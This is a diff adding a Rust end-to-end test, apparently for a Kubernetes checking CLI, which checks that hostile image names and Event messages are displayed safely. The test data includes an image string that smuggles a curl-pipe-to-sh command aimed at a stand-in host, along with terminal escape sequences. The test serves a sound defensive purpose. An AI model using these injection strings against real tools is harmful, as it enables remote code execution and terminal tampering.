@@ -354,3 +354,57 @@ fn list_across_namespaces_and_managed_filter() {
     assert!(names.lines().any(|l| l == "secret/ours"), "{names}");
     assert!(!names.contains("secret/theirs"), "{names}");
 }
+
+/// Text from the cluster is untrusted: an image that smuggles shell syntax into the registry
+/// host is INVALID-IMAGE with no command built from it, and escape sequences in images and
+/// Event messages reach the terminal escaped. `-o json` keeps them exact.
+#[test]
+#[ignore = "needs the real control plane: tests/e2e/run.sh"]
+fn hostile_images_and_events_are_shown_not_obeyed() {
+    let e2e = E2e::new();
+    let ns = e2e.namespace("hostile");
+    let injection = "[$(curl${IFS}-s${IFS}evil.sh|sh)]/app:1";
+    let escapes = "quay.io/team/app:1\u{1b}]0;pwned\u{7}\u{1b}[2J";
+    e2e.deployment(&ns, "inject", json!({"containers": container(injection)}));
+    e2e.deployment(&ns, "escape", json!({"containers": container(escapes)}));
+    let pod = json!({"apiVersion": "v1", "kind": "Pod",
+        "metadata": {"name": "victim", "namespace": ns},
+        "spec": {"containers": container("quay.io/team/victim:1")}});
+    e2e.kubectl_apply(&pod.to_string());
+    let event = json!({"apiVersion": "v1", "kind": "Event",
+        "metadata": {"name": "victim.hostile", "namespace": ns},
+        "involvedObject": {"kind": "Pod", "name": "victim", "namespace": ns},
+        "reason": "Failed", "type": "Warning",
+        "message": "Failed to pull image \"quay.io/team/victim:1\": \u{1b}[2J\u{1b}]0;owned\u{7} unauthorized"});
+    e2e.kubectl_apply(&event.to_string());
+
+    let out = e2e.run(&["check", "-n", &ns]);
+    let stdout = text(&out.stdout);
+    let stderr = text(&out.stderr);
+    assert!(
+        !stdout.contains('\u{1b}') && !stderr.contains('\u{1b}'),
+        "raw escape reached the terminal:\n{stdout:?}\n{stderr:?}"
+    );
+    assert!(stdout.contains(r"\u{1b}]0;pwned\u{7}\u{1b}[2J"), "{stdout}");
+    assert!(
+        stdout.contains(r"\u{1b}[2J\u{1b}]0;owned\u{7} unauthorized"),
+        "{stdout}"
+    );
+    let inject_line = stdout.lines().find(|l| l.contains("curl")).expect(&stdout);
+    assert!(inject_line.contains("INVALID-IMAGE"), "{stdout}");
+    assert!(!stdout.contains("--server [$("), "{stdout}");
+
+    let out = e2e.run(&["check", "-n", &ns, "-o", "json"]);
+    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
+    let images: Vec<&str> = report["items"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .flat_map(|item| item["images"].as_array().unwrap())
+        .filter_map(|image| image["image"].as_str())
+        .collect();
+    assert!(
+        images.contains(&escapes),
+        "JSON keeps the exact text: {images:?}"
+    );
+}
